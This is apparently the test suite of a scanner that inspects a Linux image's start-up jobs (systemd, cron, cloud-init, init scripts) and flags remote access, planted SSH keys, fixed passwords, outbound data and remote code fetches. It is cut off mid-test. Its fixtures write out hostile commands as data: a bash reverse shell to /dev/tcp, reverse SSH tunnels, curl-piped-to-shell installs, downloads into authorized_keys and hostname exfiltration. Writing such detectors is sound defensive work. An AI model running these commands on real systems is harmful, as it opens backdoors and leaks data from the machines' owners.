import test from 'ava';
import type {RootFile} from '../../../src/contract.ts';
import type {Startup} from '../../../src/evidence/startup.ts';
import {boots, debian, enabled, unit} from '../../../src/examples.ts';
import {type FileSystem, textAt} from '../../../src/filesystem.ts';
import {startupOf} from '../../../src/gather/root/startup.ts';
import {systemOf} from '../../helpers/filesystem.ts';

type Files = Readonly<Record<string, RootFile>>;

function startup(files: Files): Startup & {readonly system: FileSystem} {
	const system = systemOf(files);
	const found = startupOf(system);
	if (found === undefined) throw new Error('no /etc');
	return {...found, system};
}

/** The jobs of larkspur in one line each: name, trigger, why not. */
function jobs(files: Files): readonly string[] {
	return startup(files)
		.jobs.filter(({name}) => name.includes('larkspur'))
		.map(({name, trigger, off, waitsFor}) => [name, off ?? trigger, ...(waitsFor === undefined ? [] : [`waits for ${waitsFor}`])].join(' '));
}

const starts = test.macro({
	exec(t, files: Files, expected: readonly string[]) {
		t.deepEqual(jobs(files), expected);
	},
	title: (given = '') => `starts: ${given}`,
});
const service = unit('ExecStart=/opt/larkspur/server');
const path = 'etc/systemd/system/larkspur.service';
const script = {text: '#!/bin/sh\ntrue\n', mode: 0o755};

test('an enabled unit', starts, enabled('larkspur.service', service), ['larkspur.service boot']);
test('a unit without a link', starts, debian({[path]: service}), ['larkspur.service not-enabled']);
test('a masked unit', starts, enabled('larkspur.service', '', {[path]: {link: '/dev/null'}, 'usr/lib/systemd/system/larkspur.service': service}), [
	'larkspur.service masked',
]);
test("an empty unit masks the vendor's", starts, enabled('larkspur.service', '', {'usr/lib/systemd/system/larkspur.service': service}), [
	'larkspur.service masked',
]);
test('a required unit', starts, debian({[path]: service, 'etc/systemd/system/sysinit.target.requires/larkspur.service': {link: path}}), [
	'larkspur.service boot',
]);
test('a unit that a started one wants', starts, enabled('other.service', unit('ExecStart=/bin/true', 'Wants=larkspur.service\n'), {[path]: service}), [
	'larkspur.service boot',
]);
test(
	'a unit that a stopped one wants',
	starts,
	debian({'etc/systemd/system/other.service': unit('ExecStart=/bin/true', 'Wants=larkspur.service\n'), [path]: service}),
	['larkspur.service not-enabled'],
);
test('a target that nobody reaches', starts, debian({[path]: service, 'etc/systemd/system/rescue.target.wants/larkspur.service': {link: path}}), [
	'larkspur.service not-enabled',
]);
test(
	'the graphical target of a server that does not go there',
	starts,
	debian({
		[path]: service,
		'etc/systemd/system/graphical.target.wants/larkspur.service': {link: path},
		'etc/systemd/system/default.target': {link: '/usr/lib/systemd/system/multi-user.target'},
		'usr/lib/systemd/system/multi-user.target': '[Unit]\n',
	}),
	['larkspur.service not-enabled'],
);
test('a timer', starts, enabled('larkspur.timer', '[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n', {[path]: service}), [
	'larkspur.service schedule',
	'larkspur.timer boot',
]);
test('a timer that is not enabled', starts, debian({'etc/systemd/system/larkspur.timer': '[Timer]\nOnCalendar=daily\n', [path]: service}), [
	'larkspur.service not-enabled',
	'larkspur.timer not-enabled',
]);
test(
	'a socket',
	starts,
	debian({
		'etc/systemd/system/a.socket': '[Socket]\nListenStream=80\nService=larkspur.service\n',
		'etc/systemd/system/sockets.target.wants/a.socket': {link: '/x'},
		[path]: service,
	}),
	['larkspur.service event'],
);
test(
	'an instance of a template',
	starts,
	debian({'etc/systemd/system/larkspur@.service': unit('ExecStart=/bin/true'), 'etc/systemd/system/multi-user.target.wants/larkspur@a.service': {link: '/x'}}),
	['larkspur@.service not-enabled', 'larkspur@a.service boot'],
);
test('a condition on a file that is not there', starts, enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=/etc/larkspur/on\n')), [
	'larkspur.service boot waits for /etc/larkspur/on',
]);
test(
	'a condition on a file that is there',
	starts,
	enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=/etc/larkspur/on\n'), {'etc/larkspur/on': 'x'}),
	['larkspur.service boot'],
);
test('a condition on what comes while it runs', starts, enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=/run/larkspur\n')), [
	'larkspur.service boot',
]);
test(
	'one of two conditions is enough',
	starts,
	enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=|/etc/a\nConditionPathExists=|/etc/passwd\n')),
	['larkspur.service boot'],
);
test('a unit that a script starts', starts, boots('systemctl start larkspur-worker', {'etc/systemd/system/larkspur-worker.service': service}), [
	'larkspur-worker.service not-enabled',
	'larkspur.service boot',
	'larkspur-worker.service boot',
]);
for (const [command, isStarted] of [
	['systemctl reenable --now larkspur-worker', true],
	['systemctl -H localhost enable /etc/systemd/system/larkspur-worker.service', true],
	['systemctl reload-or-restart other larkspur-worker', true],
	['deb-systemd-helper enable larkspur-worker.service', true],
	['deb-systemd-invoke start larkspur-worker.service', true],
	['service larkspur-worker start', true],
	['invoke-rc.d --quiet larkspur-worker restart', true],
	['chkconfig --level 35 larkspur-worker on', true],
	['chkconfig --add larkspur-worker', true],
	['update-rc.d larkspur-worker enable', true],
	['update-rc.d -f larkspur-worker defaults', true],
	['rc-update add larkspur-worker default', true],
	['ln -s ../larkspur-worker.service /etc/systemd/system/multi-user.target.wants/', true],
	['systemctl try-restart larkspur-worker', false],
	['systemctl status larkspur-worker', false],
	['systemctl disable larkspur-worker', false],
	['service larkspur-worker status', false],
	['chkconfig larkspur-worker off', false],
	['rc-update add other larkspur-worker', false],
	['systemctl enable larkspur-worker.path', false],
] as const)
	test(`starts by a command: ${command}`, (t) => {
		const found = jobs(boots(command, {'etc/systemd/system/larkspur-worker.service': service}));
		t.is(found.includes('larkspur-worker.service boot'), isStarted);
		t.true(found.includes('larkspur-worker.service not-enabled'));
	});
test('presets of a first boot', starts, debian({[path]: service, 'etc/machine-id': 'uninitialized\n', 'usr/lib/systemd/system/x.target': ''}), [
	'larkspur.service boot',
]);
test(
	'a preset that disables',
	starts,
	debian({
		[path]: service,
		'etc/machine-id': 'uninitialized\n',
		'usr/lib/systemd/system/x.target': '',
		'usr/lib/systemd/system-preset/99-default-disable.preset': 'disable *\n',
	}),
	['larkspur.service not-enabled'],
);
test(
	'a preset that enables before another disables',
	starts,
	debian({
		[path]: service,
		'etc/machine-id': undefined,
		'usr/lib/systemd/system/x.target': '',
		'etc/systemd/system-preset/10-larkspur.preset': 'enable lark*.service\n',
		'usr/lib/systemd/system-preset/99-default-disable.preset': 'disable *\n',
	}),
	['larkspur.service boot'],
);
test('an init script', starts, debian({'etc/init.d/larkspur': script, 'etc/rc3.d/S20larkspur': {link: '../init.d/larkspur'}}), ['/etc/init.d/larkspur boot']);
test('an init script that is killed', starts, debian({'etc/init.d/larkspur': script, 'etc/rc3.d/K20larkspur': {link: '../init.d/larkspur'}}), []);
test(
	'an init script for which there is a unit',
	starts,
	debian({[path]: service, 'etc/init.d/larkspur': script, 'etc/rc3.d/S20larkspur': {link: '../init.d/larkspur'}}),
	['larkspur.service not-enabled'],
);
test(
	'crontabs',
	starts,
	debian({
		'etc/crontab': 'SHELL=/bin/sh\n# 1 2 3 4 5 root a\n17 * * * * root larkspur\n',
		'etc/cron.d/larkspur': '@reboot root x\n',
		'etc/cron.d/larkspur.bak': '@reboot root x\n',
		'var/spool/cron/crontabs/larkspur': '*/5 * * * * x\n',
	}),
	['/etc/cron.d/larkspur boot', '/etc/cron.d/larkspur.bak bad-name', '/var/spool/cron/crontabs/larkspur schedule'],
);
test(
	'crontabs that nobody reads',
	starts,
	debian({'etc/cron.d/larkspur': '@reboot root x\n', 'usr/lib/systemd/system/cron.service': unit('ExecStart=/usr/sbin/cron')}),
	['/etc/cron.d/larkspur switched-off'],
);
test(
	'daily scripts',
	starts,
	debian({'etc/cron.daily/larkspur': script, 'etc/cron.daily/larkspur.sh': script, 'etc/cron.daily/larkspur-text': '#!/bin/sh\n'}),
	['/etc/cron.daily/larkspur schedule', '/etc/cron.daily/larkspur-text not-executable', '/etc/cron.daily/larkspur.sh bad-name'],
);
test('scripts of cloud-init', starts, debian({'var/lib/cloud/scripts/per-instance/larkspur.sh': script}), [
	'/var/lib/cloud/scripts/per-instance/larkspur.sh boot',
]);
test('cloud-init that is switched off', starts, debian({'var/lib/cloud/scripts/per-boot/larkspur.sh': script, 'etc/cloud/cloud-init.disabled': ''}), [
	'/var/lib/cloud/scripts/per-boot/larkspur.sh switched-off',
]);
test(
	'OpenRC',
	starts,
	debian({
		'etc/init.d/larkspur': '#!/sbin/openrc-run\ncommand=/opt/larkspur/server\n',
		'etc/runlevels/default/larkspur': {link: '/etc/init.d/larkspur'},
	}),
	['/etc/init.d/larkspur boot'],
);
test(
	'supervisor',
	starts,
	debian({'etc/supervisor/conf.d/x.conf': '[program:larkspur]\ncommand=/opt/larkspur/server\n[program:larkspur-b]\nautostart=false\ncommand=b\n'}),
	['supervisor larkspur boot', 'supervisor larkspur-b not-enabled'],
);
test(
	'units of a user who lingers',
	starts,
	debian({
		'home/admin/.config/systemd/user/larkspur.service': unit('ExecStart=/bin/true'),
		'home/admin/.config/systemd/user/default.target.wants/larkspur.service': {link: '/x'},
		'var/lib/systemd/linger/admin': '',
	}),
	['larkspur.service boot'],
);

/** What of one list is found, with the source text that it points at. */
function found(
	files: Files,
	key: 'remoteAccess' | 'addedAccess' | 'sendings' | 'telemetry' | 'passwords' | 'printedPasswords' | 'userDataNeeds' | 'fetches' | 'timeLimits',
) {
	const {system, ...all} = startup(files);
	return all[key].map((item) => {
		const {file, range} = item.place;
		const text = textAt(system, file.slice('image/'.length))?.value ?? '';
		const at = range === undefined ? '' : text.slice(...range);
		const what = ['agent', 'bound', 'source', 'to', 'product', 'of', 'origin', 'path', 'how', 'what', 'value'].flatMap((name) =>
			name in item ? String(item[name as keyof typeof item]) : [],
		);
		return `${what.join(' ')} @ ${at}`;
	});
}

const finds = test.macro({
	exec(t, key: Parameters<typeof found>[1], files: Files, expected: readonly string[]) {
		t.deepEqual(found(files, key), expected);
	},
	title: (given = '') => `finds: ${given}`,
});

test(
	'a drop-in that replaces the command',
	finds,
	'passwords',
	enabled('larkspur.service', unit('ExecStart=/opt/a'), {
		'opt/a': "#!/bin/sh\necho 'admin:one' | chpasswd\n",
		'opt/b': "#!/bin/sh\necho 'admin:two' | chpasswd\n",
		'etc/systemd/system/larkspur.service.d/50-b.conf': '[Service]\nExecStart=\nExecStart=/opt/b\n',
	}),
	['account admin fixed @ two'],
);
test(
	'a drop-in that is masked',
	finds,
	'passwords',
	enabled('larkspur.service', unit('ExecStart=/opt/a'), {
		'opt/a': "#!/bin/sh\necho 'admin:one' | chpasswd\n",
		'usr/lib/systemd/system/larkspur.service.d/50-b.conf': '[Service]\nExecStart=\n',
		'etc/systemd/system/larkspur.service.d/50-b.conf': {link: '/dev/null'},
	}),
	['account admin fixed @ one'],
);
for (const [how, second] of [
	['words', '/opt/set root letmein'],
	['variables', 'SECRET=letmein /opt/set root'],
])
	test(
		`a script that is run again with other ${how}`,
		finds,
		'passwords',
		enabled('larkspur.service', unit('ExecStart=/opt/run'), {
			'opt/run': `#!/bin/sh\n/opt/set admin "$(openssl rand -hex 16)"\n${second}\n${second}\n`,
			'opt/set': '#!/bin/sh\necho "$1:${2:-$SECRET}" | chpasswd\n',
		}),
		['account admin random @ openssl rand -hex 16', 'account root fixed @ letmein'],
	);
test(
	'units of two users with one name, and one that all of them have',
	finds,
	'passwords',
	debian({
		...Object.fromEntries(['admin', 'guest'].map((name) => [`home/${name}/.config/systemd/user/larkspur.service`, unit(`ExecStart=/opt/${name}`)])),
		...Object.fromEntries(['admin', 'guest'].map((name) => [`home/${name}/.config/systemd/user/default.target.wants/larkspur.service`, {link: '/x'}])),
		'etc/systemd/user/shared.service': unit('ExecStart=/opt/shared'),
		'etc/systemd/user/default.target.wants/shared.service': {link: '/x'},
		'opt/admin': "#!/bin/sh\necho 'admin:one' | chpasswd\n",
		'opt/guest': "#!/bin/sh\necho 'guest:two' | chpasswd\n",
		'opt/shared': "#!/bin/sh\necho 'shared:three' | chpasswd\n",
	}),
	['account shared fixed @ three', 'account admin fixed @ one', 'account guest fixed @ two'],
);
test(
	'a variable of an environment file',
	finds,
	'passwords',
	enabled('larkspur.service', unit('EnvironmentFile=-/etc/default/larkspur\nExecStart=/opt/a'), {
		'etc/default/larkspur': 'WORD="one two"\n',
		'opt/a': '#!/bin/sh\necho "admin:$WORD" | chpasswd\n',
	}),
	['account admin fixed @ one two'],
);
test(
	'the instance of a template',
	finds,
	'remoteAccess',
	debian({
		'etc/systemd/system/tunnel@.service': unit('ExecStart=/usr/bin/ssh -NR 22:localhost:22 %i'),
		'etc/systemd/system/multi-user.target.wants/tunnel@relay.larkspur-queue.com.service': {link: '/x'},
	}),
	['ssh -R relay.larkspur-queue.com @ %i'],
);
test(
	'a tunnel of an ssh configuration',
	finds,
	'remoteAccess',
	enabled('t.service', unit('ExecStart=/usr/bin/autossh -M 0 -N relay'), {
		'root/.ssh/config': 'Host relay\n  HostName relay.larkspur-queue.com\n  RemoteForward 2222 localhost:22\n',
	}),
	['autossh with RemoteForward relay.larkspur-queue.com @   RemoteForward 2222 localhost:22'],
);
test("a tunnel to a host of one's own network", finds, 'remoteAccess', boots('ssh -N -R 2222:localhost:22 admin@10.0.0.5'), []);
test('a shell handed out', finds, 'remoteAccess', boots("bash -c 'bash -i >& /dev/tcp/relay.larkspur-queue.com/443 0>&1'"), [
	'a shell of bash relay.larkspur-queue.com @ bash -i >& /dev/tcp/relay.larkspur-queue.com/443 0>&1',
]);
test(
	'an agent of an account of the seller',
	finds,
	'remoteAccess',
	enabled('amazon-ssm-agent.service', unit('ExecStart=/usr/bin/amazon-ssm-agent'), {
		'var/lib/amazon/ssm/registration': '{"ManagedInstanceID":"mi-0123456789abcdef0","Region":"us-east-1"}',
	}),
	['Systems Manager hybrid activation mi-0123456789abcdef0 @ mi-0123456789abcdef0'],
);
test(
	'a client of one VPN of two',
	finds,
	'remoteAccess',
	debian({
		'usr/lib/systemd/system/openvpn-client@.service': unit('ExecStart=/usr/sbin/openvpn --config %i.conf'),
		'etc/systemd/system/multi-user.target.wants/openvpn-client@a.service': {link: '/x'},
		'etc/openvpn/client/a.conf': 'client\nremote a.larkspur-queue.com 1194\n',
		'etc/openvpn/client/b.conf': 'client\nremote b.larkspur-queue.com 1194\n',
	}),
	['OpenVPN a.larkspur-queue.com @ a.larkspur-queue.com'],
);
test(
	'a network that was joined',
	finds,
	'remoteAccess',
	enabled('zerotier-one.service', unit('ExecStart=/usr/sbin/zerotier-one'), {
		'var/lib/zerotier-one/networks.d/0123456789abcdef.conf': 'x',
	}),
	['ZeroTier 0123456789abcdef @ '],
);
test(
	'Tailscale that was logged in',
	finds,
	'remoteAccess',
	enabled('tailscaled.service', unit('ExecStart=/usr/sbin/tailscaled'), {
		'var/lib/tailscale/tailscaled.state': '{"_machinekey": "x", "_current-profile": "x", "profile-1a2b": "x"}',
	}),
	['Tailscale @ profile-1a2b'],
);
test(
	'Tailscale that was only started',
	finds,
	'remoteAccess',
	enabled('tailscaled.service', unit('ExecStart=/usr/sbin/tailscaled'), {'var/lib/tailscale/tailscaled.state': '{"_machinekey": "x", "_current-profile": ""}'}),
	[],
);
test(
	'a placeholder is no host',
	finds,
	'remoteAccess',
	enabled('salt-minion.service', unit('ExecStart=/usr/bin/salt-minion'), {'etc/salt/minion': 'master: <your-master>\n'}),
	[],
);

test(
	'ways to set a password',
	finds,
	'passwords',
	boots(
		[
			"chpasswd <<< 'a:one1'",
			"printf 'two2\\ntwo2\\n' | passwd b",
			'echo three3 | passwd --stdin c',
			"useradd -m -p '$6$salt$hash' d",
			"mysql -e \"ALTER USER 'root'@'localhost' IDENTIFIED BY 'four4'\"",
			'sudo -u postgres psql -c "ALTER USER postgres PASSWORD \'five5\'"',
			'htpasswd -bc /etc/nginx/users e six6',
			'rabbitmqctl add_user f seven7',
			'docker run -d -e MYSQL_ROOT_PASSWORD=eight8 mysql',
			'larkspur-setup --admin-password=nine9',
		].join('\n'),
	),
	[
		'account a fixed @ one1',
		'account b fixed @ two2',
		'account c fixed @ three3',
		'account d fixed @ $6$salt$hash',
		'MySQL fixed @ four4',
		'PostgreSQL fixed @ five5',
		'web user e fixed @ six6',
		'RabbitMQ user f fixed @ seven7',
		'MYSQL_ROOT_PASSWORD fixed @ eight8',
		'larkspur-setup fixed @ nine9',
	],
);
test(
	'whose password it is, wherever options stand',
	finds,
	'passwords',
	boots(
		[
			'useradd -s /bin/bash carol -p Larkspur01',
			'usermod admin -p Larkspur02',
			'useradd -mp Larkspur03 dave',
			'useradd erin -pLarkspur04 -G wheel,docker -c "Erin Q"',
			'usermod --pass=Larkspur05 -aG wheel frank',
			'useradd --password Larkspur06 --home-dir /srv/grace --create-home -- grace',
			'useradd $OPTIONS heidi -p Larkspur07',
			'usermod ivan judy -p Larkspur08',
			"useradd -p '' kim",
			'useradd -p',
			'adduser -G wheel -h /srv/leo leo -p Larkspur09',
			'echo Larkspur10 | passwd mallory -x 90 --stdin',
			'echo Larkspur11 | passwd --inactive 30 -n 1 niaj',
			'passwd --lock olivia < /etc/word; echo x | passwd --lock olivia',
			'htpasswd -n -b -B peggy Larkspur12',
			'htpasswd -B -C 12 -b /etc/nginx/users rupert Larkspur13',
			'rabbitmqctl --node rabbit@local -t 30 add_user sybil Larkspur14',
			"printf 'Larkspur15\\nLarkspur15\\n' | smbpasswd -s -a trent -D 1",
			"printf 'Larkspur16\\n' | smbpasswd -s -r files -U 'uma%Larkspur17'",
			"printf 'Larkspur18\\n' | pdbedit -a -t -u victor -f 'Victor V'",
		].join('\n'),
	),
	[
		'account carol fixed @ Larkspur01',
		'account admin fixed @ Larkspur02',
		'account dave fixed @ Larkspur03',
		'account erin fixed @ Larkspur04',
		'account frank fixed @ Larkspur05',
		'account grace fixed @ Larkspur06',
		'account heidi fixed @ Larkspur07',
		'an account fixed @ Larkspur08',
		"account kim fixed @ useradd -p '' kim",
		'account leo fixed @ Larkspur09',
		'account mallory fixed @ Larkspur10',
		'account niaj fixed @ Larkspur11',
		'web user peggy fixed @ Larkspur12',
		'web user rupert fixed @ Larkspur13',
		'RabbitMQ user sybil fixed @ Larkspur14',
		'Samba user trent fixed @ Larkspur15',
		'Samba user uma fixed @ Larkspur16',
		'Samba user victor fixed @ Larkspur18',
	],
);
test(
	'no passwords',
	finds,
	'passwords',
	boots(
		[
			'passwd -l a',
			"usermod -p '!' b",
			'mysql -e "ALTER USER root IDENTIFIED WITH auth_socket"',
			'docker run -e DB_PASSWORD_FILE=/run/secrets/db x',
			'larkspur --admin-password-file=/etc/x',
			'chpasswd < /root/x',
		].join('\n'),
	),
	[],
);
test(
	"cloud-init's configuration, the last file",
	finds,
	'passwords',
	debian({
		'etc/cloud/cloud.cfg':
			'password: one\nchpasswd: {expire: false}\nusers:\n  - name: a\n    lock_passwd: false\n    plain_text_passwd: two\n  - name: b\n    passwd: three\n',
		'etc/cloud/cloud.cfg.d/99.cfg': 'password: RANDOM\nchpasswd:\n  list: |\n    c:four\n    d:RANDOM\n',
	}),
	['account c fixed @ four', 'account a fixed @ two'],
);
test(
	"cloud-init's configuration, merged at every depth",
	finds,
	'passwords',
	debian({
		'etc/cloud/cloud.cfg': 'system_info:\n  default_user: {name: maker, lock_passwd: false}\nchpasswd:\n  list: |\n    c:four\n',
		'etc/cloud/cloud.cfg.d/50.cfg': 'system_info:\n  default_user: {plain_text_passwd: five}\n',
		'etc/cloud/cloud.cfg.d/99.cfg': 'chpasswd: {expire: false}\nsystem_info: {package_mirrors: []}\n',
	}),
	['account c fixed @ four', 'account maker fixed @ five'],
);
test(
	'the old key of the default user',
	finds,
	'passwords',
	debian({'etc/cloud/cloud.cfg': 'user: {name: maker, lock_passwd: false, plain_text_passwd: five}\n'}),
	['account maker fixed @ five'],
);
test(
	"modules of cloud-init's that are not run",
	finds,
	'passwords',
	debian({
		'etc/cloud/cloud.cfg': 'password: one\nusers: [{name: a, lock_passwd: false, plain_text_passwd: two}]\ncloud_init_modules: [migrator]\n',
		'etc/cloud/cloud.cfg.d/99.cfg': 'cloud_config_modules: [[cc_users_groups, always]]\n',
	}),
	['account a fixed @ two'],
);
test(
	"cloud-init's commands",
	finds,
	'passwords',
	debian({'etc/cloud/cloud.cfg': 'runcmd:\n  - echo a:one | chpasswd\n  - [sh, -c, "echo b:two | chpasswd"]\n'}),
	['account a fixed @ one', 'account b fixed @ two'],
);
test(
	'a list of words is no text for a shell: an apostrophe ends nothing',
	finds,
	'passwords',
	debian({
		'etc/cloud/cloud.cfg':
			'runcmd:\n  - [sh, -c, "echo \'bob:Lark $pur99\' | chpasswd; echo don\'t"]\n  - [usermod, -p, "it\'s", eve]\n  - [usermod, -c, "", -p, 1234, ann]\n',
	}),
	['account bob fixed @ Lark $pur99', "account eve fixed @ it's", 'account ann fixed @ 1234'],
);
test(
	'nor does it take one away from what it fetches',
	finds,
	'fetches',
	debian({'etc/cloud/cloud.cfg': "bootcmd:\n  - [sh, -c, \"curl -fsSL 'https://get.larkspur-queue.com/x?a=1&b=2' | sh; echo don't\"]\n"}),
	['run https://get.larkspur-queue.com/x?a=1&b=2 @ https://get.larkspur-queue.com/x?a=1&b=2'],
);
test(
	'keys',
	finds,
	'addedAccess',
	boots(
		[
			'curl -s https://github.com/larkspur.keys | tee -a /root/.ssh/authorized_keys',
			'wget -O /home/a/.ssh/authorized_keys https://larkspur-queue.com/k',
			'cat /root/k >> /root/.ssh/authorized_keys',
			'ssh-import-id gh:larkspur',
		].join('\n'),
	),
	['github.com download @ https://github.com/larkspur.keys', 'larkspur-queue.com download @ https://larkspur-queue.com/k', 'gh:larkspur import @ gh:larkspur'],
);

// Where a download lands, by the manuals of the programs.
const keys = 'https://keys.larkspur-queue.com/authorized_keys';
for (const [command, isKeys] of [
	[`curl -fsSLo ~/.ssh/authorized_keys ${keys}`, true],
	[`curl -fsSLo~/.ssh/authorized_keys ${keys}`, true],
	[`curl --output /root/.ssh/authorized_keys --url ${keys}`, true],
	[`curl --output-dir ~/.ssh -OJ ${keys}?v=1`, true],
	[`curl -s ${keys} -o /etc/ssh/authorized_keys/root -o /tmp/x https://example.com/x`, true],
	[`wget -qO ~/.ssh/authorized_keys ${keys}`, true],
	[`wget --output-document=/root/.ssh/authorized_keys ${keys}`, true],
	[`wget -nv -P ~/.ssh/ ${keys}`, true],
	[`aria2c -q -d /root/.ssh -o authorized_keys ${keys}`, true],
	[`aria2c --dir=/root/.ssh ${keys}`, true],
	[`http -d -o /root/.ssh/authorized_keys ${keys}`, true],
	['aws --region eu-west-1 s3 cp s3://larkspur-keys/authorized_keys ~/.ssh/ --no-progress', true],
	['scp -q -i /root/k keys@keys.larkspur-queue.com:authorized_keys /root/.ssh/', true],
	[`curl -T /root/.ssh/authorized_keys ${keys}`, false],
	[`curl -sS ${keys} -H @/root/.ssh/authorized_keys`, false],
	[`curl -x https://proxy.larkspur-queue.com/ -o ~/.ssh/authorized_keys http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key`, false],
	[`wget -q --spider -P /root/.ssh ${keys}`, false],
	[`wget -a ~/.ssh/authorized_keys ${keys}`, false],
	['aws s3 cp /root/.ssh/authorized_keys s3://larkspur-keys/', false],
	['scp /root/.ssh/authorized_keys keys@keys.larkspur-queue.com:.ssh/authorized_keys', false],
] as const)
	test(`keys that land in a file: ${command}`, (t) => {
		const all = found(boots(command), 'addedAccess');
		t.deepEqual(all.length, isKeys ? 1 : 0);
		if (isKeys) t.regex(all[0] ?? '', /^(?:keys\.larkspur-queue\.com|larkspur-keys) download @ /);
	});
test(
	'what is sent',
	finds,
	'sendings',
	boots(
		[
			'curl -X POST -d "host=$(hostname -f)" https://api.larkspur-queue.com/up',
			'aws s3 cp /var/log/larkspur.log s3://larkspur-logs/',
			'df -h | mail -s disk ops@larkspur-queue.com',
			'aws cloudwatch put-metric-data --namespace x',
			'curl -s https://checkip.amazonaws.com',
			'curl -d x http://localhost:8080/',
			'curl -d x https://example.com/',
			'curl -d x https://logs.larkspur.example/up',
		].join('\n'),
	),
	[
		'api.larkspur-queue.com request host name @ https://api.larkspur-queue.com/up',
		's3://larkspur-logs upload  @ s3://larkspur-logs/',
		'ops@larkspur-queue.com mail  @ ops@larkspur-queue.com',
		'logs.larkspur.example request  @ https://logs.larkspur.example/up',
	],
);
test('where cron mails', finds, 'sendings', debian({'etc/cron.d/larkspur': 'MAILTO="ops@larkspur-queue.com"\n0 1 * * * root a\n0 2 * * * root b\n'}), [
	'ops@larkspur-queue.com mail  @ ops@larkspur-queue.com',
]);
test(
	"cloud-init's phone_home",
	finds,
	'sendings',
	debian({'etc/cloud/cloud.cfg': 'phone_home:\n  url: https://larkspur-queue.com/$INSTANCE_ID/\n  post: all\n'}),
	['larkspur-queue.com request instance id,host name,public host keys @ https://larkspur-queue.com/$INSTANCE_ID/'],
);
test(
	'telemetry that a file switches off',
	finds,
	'telemetry',
	enabled('netdata.service', unit('ExecStart=/usr/sbin/netdata'), {'etc/netdata/.opt-out-from-anonymous-statistics': ''}),
	[],
);
test('telemetry that is on', finds, 'telemetry', enabled('netdata.service', unit('ExecStart=/usr/sbin/netdata')), ['Netdata @ /usr/sbin/netdata']);
test(
	'what is fetched',
	finds,
	'fetches',
	boots(
		[
			'bash -c "$(curl -fsSL https://a.larkspur-queue.com/x)"',
			'curl -sSLo /tmp/x.tgz https://b.larkspur-queue.com/x.tgz && tar xzf /tmp/x.tgz',
			'wget https://c.larkspur-queue.com/run.sh; sh run.sh',
			'curl -o /etc/larkspur/list https://d.larkspur-queue.com/list',
			'git clone https://github.com/larkspur/queue /opt/queue',
			'curl -s http://169.254.169.254/latest/user-data | bash',
			'apt-get update',
			'pip install --no-index /opt/wheels/a.whl',
			'curl -s https://e.larkspur-queue.com/health > /dev/null',
			'wget -q --spider https://e.larkspur-queue.com/health',
			'wget -nv -P /opt https://f.larkspur-queue.com/f.sh?v=1 && sh /opt/f.sh',
			'aws s3 sync s3://larkspur-g /opt/g',
		].join('\n'),
	),
	[
		'run https://a.larkspur-queue.com/x @ https://a.larkspur-queue.com/x',
		'unpack https://b.larkspur-queue.com/x.tgz @ https://b.larkspur-queue.com/x.tgz',
		'run https://c.larkspur-queue.com/run.sh @ https://c.larkspur-queue.com/run.sh',
		'clone https://github.com/larkspur/queue @ https://github.com/larkspur/queue',
		'run https://f.larkspur-queue.com/f.sh?v=1 @ https://f.larkspur-queue.com/f.sh?v=1',
		'download https://d.larkspur-queue.com/list @ https://d.larkspur-queue.com/list',
		'download s3://larkspur-g @ s3://larkspur-g',
	],
);
test(
	'user data that a script can do without',
	finds,
	'userDataNeeds',
	boots('D=$(curl -s http://169.254.169.254/latest/user-data)\n[ -n "$D" ] && load "$D"\nif [ -z "$X" ]; then exit 1; fi'),
	[],
);
test(
	'user data behind an operator',
	finds,
	'userDataNeeds',
	boots('D=$(curl -s http://169.254.169.254/latest/user-data)\n[ -n "$D" ] || { echo none; exit 1; }'),
	['stops @ exit 1'],
);
test('user data in an else', finds, 'userDataNeeds', boots('if curl -fs http://169.254.169.254/latest/user-data -o /tmp/d; then load; else exit 2; fi'), [
	'stops @ exit 2',
]);
test('a root without /etc has no start-up', (t) => {
	t.is(startupOf(systemOf({'usr/bin/x': 'a'})), undefined);
});

test('many units that want each other', (t) => {
	const files: Record<string, RootFile> = {'etc/passwd': '', 'etc/systemd/system/multi-user.target.wants/u0.service': {link: '/x'}};
	for (let index = 0; index < 600; index++)
		files[`etc/systemd/system/u${index}.service`] = unit('ExecStart=/bin/true', `Wants=u${(index + 1) % 600}.service u${(index + 7) % 600}.service\n`);
	t.is(startup(files).jobs.filter(({off}) => off === undefined).length, 600);
});

test('hostile files', (t) => {
	const long = 'a'.repeat(500_000);
	const all = startup({
		'etc/passwd': '',
		'etc/crontab': `${'* '.repeat(200_000)}\n* * * * * root ${long}\n${'\0'.repeat(1000)}`,
		'etc/systemd/system/a.service': `[Service]\n${'ExecStart=\\\n'.repeat(50_000)}${' '.repeat(100_000)}=x\nEnvironment=${'"'.repeat(100_000)}`,
		'etc/systemd/system/multi-user.target.wants/a.service': {link: '/x'},
		'etc/systemd/system/loop.service': {link: 'loop.service'},
		'etc/cloud/cloud.cfg': `${'['.repeat(10_000)}`,
		'opt/x/license.json': `${'expires '.repeat(10_000)}`,
		'etc/rsyslog.conf': `${' '.repeat(300_000)}@@${long}`,
	});
	t.true(all.jobs.length > 0);
});

const generates = (text: string, path = 'usr/lib/systemd/system-generators/larkspur') => debian({[path]: {text: `#!/bin/sh\n${text}`, mode: 0o755}});
const wants = 'mkdir -p "$1/multi-user.target.wants"\nln -s ../t.service "$1/multi-user.target.wants/"\n';
const relay = '/usr/bin/ssh -NR 0:localhost:22 t@relay.larkspur-queue.com';

test(
	'a unit that a generator writes and wants',
	finds,
	'remoteAccess',
	generates(`cat > "$1/t.service" <<EOF\n[Unit]\nAfter=network.target\n[Service]\nExecStart=-${relay}\nEOF\n${wants}`),
	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
);
test(
	'a unit that a generator writes line by line',
	finds,
	'remoteAccess',
	generates(`echo "[Service]" > "$1/t.service"\necho "ExecStart=${relay}" >> "$1/t.service"\n${wants}`, 'etc/systemd/system-generators/larkspur'),
	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
);
test(
	'a unit that a generator writes and nothing starts',
	finds,
	'remoteAccess',
	generates(`printf '[Service]\\nExecStart=${relay}\\n' > "$1/t.service"\n`),
	[],
);
test(
	'a unit that a script writes and enables',
	finds,
	'remoteAccess',
	boots(`tee /etc/systemd/system/t.service >/dev/null <<EOF\n[Service]\nExecStart=${relay}\nEOF\nsystemctl enable --now t`),
	['ssh -R relay.larkspur-queue.com @ t@relay.larkspur-queue.com'],
);
test(
	'a unit with a comment within a line',
